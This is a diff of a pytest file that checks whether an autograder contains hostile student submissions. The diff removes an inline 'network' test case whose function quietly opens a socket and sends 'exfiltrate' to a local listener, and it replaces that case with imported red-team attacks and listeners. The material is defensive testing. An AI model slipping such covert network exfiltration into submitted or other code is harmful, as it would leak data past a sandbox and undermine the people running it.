@@ -11,7 +11,6 @@ import json
 import os
 import re
 import shutil
-import socket
 import subprocess
 import sys
 import time
@@ -20,6 +19,7 @@ from pathlib import Path
 
 import pytest
 from redteam import hostile_cases, ordinary_user
+from redteam.test_attacks import ATTACKS, _Listeners
 from toycourse import make_course, toy_submission
 
 from autograder.model import names, results
@@ -36,15 +36,7 @@ CASES = {  # name -> the double cell (None: the reference), or a layout
         "    except OSError:\n"
         "        return x\n"
     ),
-    "network": (
-        "import socket\n"
-        "def double(x):\n"
-        "    try:\n"
-        "        socket.create_connection(('127.0.0.1', PORT), timeout=2).sendall(b'exfiltrate')\n"
-        "        return 2 * x\n"
-        "    except OSError:\n"
-        "        return x\n"
-    ),
+    "network": ATTACKS["network"],
     "daemon": (
         "import os, time\n"
         "def double(x):\n"
@@ -85,12 +77,9 @@ def setup(request, tmp_path_factory):
 
     loaded = assignment_mod.load("toy", root=course)
     release.write_fixtures(course / "assignments" / "toy" / assignment_mod.FIXTURES, release.fixtures(loaded))
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen(5)
-    listener.settimeout(0.1)
+    listeners = _Listeners(os.urandom(6).hex())
     consts = (
-        f"SECRET_DIR = {str(course)!r}\nPORT = {listener.getsockname()[1]}\n"
+        f"SECRET_DIR = {str(course)!r}\nPORT = {listeners.tcp.getsockname()[1]}\n"
         f"MARKER = {str(base / 'marker')!r}\nOUT_DIR = {str(base / 'out-grade')!r}\n"
     )
     flat = base / "flat"
@@ -101,9 +90,9 @@ def setup(request, tmp_path_factory):
     shutil.copy(course / "solutions" / "toy" / "toy.ipynb", flat / f"{COPIED}.ipynb")
     if mode == "user":
         ordinary_user.give(course)
-    env = {"base": base, "course": course, "flat": flat, "mode": mode, "listener": listener}
+    env = {"base": base, "course": course, "flat": flat, "mode": mode, "listeners": listeners}
     yield env
-    listener.close()
+    listeners.close()
 
 
 def _run(setup, argv, *, cwd, env=None, timeout=600) -> subprocess.CompletedProcess:
@@ -318,6 +307,7 @@ def test_every_front_end_grades_alike_and_refuses_alike(setup):
     for attack in ("reader", "network", "daemon", "hidden_channel"):
         assert grade[attack]["score"] < 6, attack
     assert not (setup["base"] / "marker").exists() and not (setup["base"] / "out-grade" / "forged.json").exists()
+    assert setup["listeners"].received == [], "a worker reached the network through a front end"
     if setup["mode"] == "user":
         assert ordinary_user.processes_of_user() == []
 
